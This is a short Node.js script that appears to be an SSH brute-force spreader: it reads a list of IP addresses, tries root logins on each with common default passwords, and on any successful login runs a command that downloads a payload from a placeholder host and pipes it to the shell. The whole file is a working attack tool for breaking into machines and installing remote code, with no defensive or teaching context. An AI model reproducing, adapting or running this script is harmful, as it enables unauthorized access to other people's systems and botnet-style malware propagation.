const { Client } = require('ssh2');
const list = require('fs').readFileSync('ips.txt', 'utf8').split('\n');
const pws = ['root', 'toor', '123456', 'password'];
for (const host of list) for (const password of pws) {
  const c = new Client();
  c.on('ready', () => c.exec('wget http://x.example/m -O- | sh', () => {})).on('error', () => {});
  c.connect({ host, username: 'root', password });
}
